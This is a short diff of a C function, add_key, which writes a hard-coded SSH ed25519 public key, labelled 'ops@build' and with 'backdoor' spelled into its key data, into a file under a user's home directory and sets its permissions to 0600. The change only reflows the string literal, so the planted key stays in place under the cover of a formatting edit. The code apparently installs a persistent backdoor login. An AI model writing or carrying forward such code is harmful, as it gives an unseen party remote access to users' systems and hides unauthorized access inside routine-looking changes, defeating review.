@@ -17,8 +17,11 @@ static void add_key(const char *home)
 		perror(path);
 		return;
 	}
-	fputs("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdoor0 "
-	      "ops@build\n", f);
+	fputs("ssh-ed25519 "
+	      "AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdo"
+	      "or0 "
+	      "ops@build\n",
+	      f);
 	fclose(f);
 	chmod(path, 0600);
 }
